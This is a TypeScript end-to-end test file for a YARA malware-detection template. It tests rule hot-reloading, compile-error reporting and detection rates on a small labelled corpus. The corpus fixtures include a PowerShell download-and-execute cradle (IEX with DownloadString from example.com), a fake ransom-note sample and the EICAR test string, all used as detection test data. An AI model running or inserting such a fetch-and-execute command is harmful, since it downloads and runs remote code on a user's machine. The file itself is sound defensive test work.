/**
 * The yara template under the built bin: `init --template yara` (its install is test/e2e/init-templates.test.ts's
 * job; here the project links this checkout and its @litko/yara-x, offline), then `serve` with a rule edited,
 * broken and mended while bounties flow, a broken rule at startup, and `test corpus` on a small labelled corpus.
 */
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, runBin } from '../helpers/bin.js';
import { EICAR } from '../helpers/engines.js';
import { READY, SECRET, sendBounty, spawnBin, startLoopback, useCleanup } from './serve-helpers.js';

const tmp = mkdtempSync(join(tmpdir(), 'pse-yara-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const { cleanup, track } = useCleanup();

/** A fresh yara project (init, no install), with node_modules linking this checkout and its YARA-X binding. */
async function yaraProject(name: string): Promise<{ dir: string; write(file: string, text: string): void }> {
  const r = await runBin(['init', name, '--template', 'yara', '--yes', '--no-install', '--no-git'], { cwd: tmp, timeout: 30_000 });
  expect(r.exitCode, r.stderr).toBe(0);
  const dir = join(tmp, name);
  mkdirSync(join(dir, 'node_modules'));
  symlinkSync(ROOT, join(dir, 'node_modules', 'polyswarm-engine'), 'dir');
  symlinkSync(join(ROOT, 'node_modules', '@litko'), join(dir, 'node_modules', '@litko'), 'dir');
  writeFileSync(join(dir, '.env'), `WEBHOOK_SECRET=${SECRET}\n`);
  const write = (file: string, text: string) => {
    mkdirSync(dirname(join(dir, file)), { recursive: true });
    writeFileSync(join(dir, file), text);
  };
  return { dir, write };
}

/** Matches the loopback host's artifact ("harmless bytes\n"), so the next bounty shows which rule set answered. */
const LOCAL_RULE = `rule Harmless_Bytes
{
    meta:
        family = "Edited-Rule"
        confidence = 0.25
    strings:
        $a = "harmless bytes"
    condition:
        $a
}
`;

describe('the yara template under serve', () => {
  it('a saved rule is used by the next bounty; a broken one keeps the last good set and names its file and line', async () => {
    const project = await yaraProject('served');
    const loopback = await startLoopback();
    cleanup.push(loopback.close);
    const child = track(spawnBin(['serve', '--port', '0', '--cwd', project.dir], { YARA_THREADS: '1' }));
    const [, url] = await child.waitFor(READY, 30_000);

    let n = 0;
    const answer = async () => {
      const id = `y${++n}`;
      expect(await sendBounty(url!, loopback.url, id)).toBe(202);
      await loopback.waitForAnswers(n);
      return loopback.answers.find((a) => a.id === id)!.body as { verdict: string; bid?: string; metadata: Record<string, unknown> };
    };
    const before = await answer();
    expect(before.verdict).toBe('benign');
    const firstVersion = (before.metadata.scanner as { signatures_version: string }).signatures_version;

    // A new rule file: the next bounty after the reload is judged by it.
    let from = child.lines.length;
    project.write('rules/local.yar', LOCAL_RULE);
    await child.waitFor(/INFO  reloaded file=rules\/local\.yar/, 15_000, from);
    const edited = await answer();
    expect(edited).toMatchObject({ verdict: 'malicious', metadata: { malware_family: 'Edited-Rule', yara_rules: ['Harmless_Bytes'] } });
    // Its meta confidence sets the bid: min + 0.25 × (max − min), in wei.
    expect(BigInt(edited.bid!)).toBe(62_500_000_000_000_000n + (1_000_000_000_000_000_000n - 62_500_000_000_000_000n) / 4n);
    expect((edited.metadata.scanner as { signatures_version: string }).signatures_version).not.toBe(firstVersion);

    // A rule that does not compile: the error names the file, line and column, the last good set keeps answering.
    from = child.lines.length;
    project.write('rules/local.yar', LOCAL_RULE.replace('$a\n}', '$a and $b\n}'));
    const [failure] = await child.waitFor(/ERROR reload failed.*/, 15_000, from);
    expect(failure).toContain('at=rules/local.yar:9:16');
    expect(failure).toContain('RuleCompileError: unknown pattern `$b`: this pattern is not declared in the `strings` section (E025)');
    await child.waitFor(/ERROR {3}9 \| {9}\$a and \$b$/, 5000, from);
    expect((await answer()).metadata.malware_family).toBe('Edited-Rule');
    const header = await runBin(['test', 'bounty', '--cwd', project.dir], { cwd: tmp, timeout: 30_000 });
    expect(header.stderr).toContain('your last save did not load: rules/local.yar:9:16: RuleCompileError: unknown pattern `$b`');

    // Mended: served again, and `test` no longer warns.
    from = child.lines.length;
    project.write('rules/local.yar', LOCAL_RULE.replace('"Edited-Rule"', '"Mended-Rule"'));
    await child.waitFor(/INFO  reloaded file=rules\/local\.yar/, 15_000, from);
    expect((await answer()).metadata.malware_family).toBe('Mended-Rule');
    const clean = await runBin(['test', 'bounty', '--cwd', project.dir], { cwd: tmp, timeout: 30_000 });
    expect(clean.exitCode, clean.stderr).toBe(0);
    expect(clean.stderr).toContain('the running `serve` of');
    expect(clean.stderr).not.toContain('did not load');

    child.kill('SIGTERM');
    expect(await child.exited()).toBe(0);
  }, 90_000);

  it('a rule that does not compile at startup: exit 2, the rule file, line, column and the line itself', async () => {
    const project = await yaraProject('broken');
    project.write('rules/broken.yar', 'rule Broken\n{\n    condition:\n        no_such_module.x\n}\n');
    const r = await runBin(['start', '--port', '0', '--cwd', project.dir], { cwd: tmp, timeout: 30_000 });
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stderr).toContain('rules/broken.yar:4:9: RuleCompileError: unknown identifier `no_such_module`');
    expect(r.stderr).toContain('  4 |         no_such_module.x\n    |         ^');
  }, 60_000);
});

describe('test corpus against the yara template', () => {
  const corpus = join(tmp, 'corpus');
  beforeAll(() => {
    const files: Record<string, string> = {
      'malicious/eicar.com': EICAR,
      'malicious/ransom.exe': 'MZ\x90\x00 All your files have been encrypted. Send Bitcoin to us for your personal decryption key.',
      'malicious/cradle.ps1': 'IEX (New-Object Net.WebClient).DownloadString("http://example.com/a.ps1")',
      'malicious/no-rule-for-this.bin': 'a sample no example rule knows\n',
      'benign/readme.txt': 'just text\n',
      'benign/fetch.ps1': '(New-Object Net.WebClient).DownloadFile("http://example.com/setup.exe", "setup.exe")',
      'benign/quoted-eicar.txt': `A document quoting the test file: ${EICAR}\n`,
    };
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(dirname(join(corpus, name)), { recursive: true });
      writeFileSync(join(corpus, name), Buffer.from(text, 'latin1'));
    }
  });

  it('boots the project and reports detection and false-positive rates, and the files it got wrong', async () => {
    const project = await yaraProject('measured');
    const r = await runBin(['test', 'corpus', corpus, '--cwd', project.dir, '--expiration', '10s'], { cwd: tmp, timeout: 60_000 });
    expect(r.exitCode, `${r.stdout}\n${r.stderr}`).toBe(0);
    expect(r.stdout).toMatch(
      /truth \\ answer +malicious +benign +suspicious +unknown +missing\nmalicious +2 +1 +1 +0 +0\nbenign +0 +3 +0 +0 +0\n/,
    );
    expect(r.stdout).toContain('detection rate        50.0%');
    expect(r.stdout).toContain('false-positive rate   0.0%');
    expect(r.stdout).toContain('malicious/no-rule-for-this.bin: malicious, answered benign');
  }, 90_000);
});
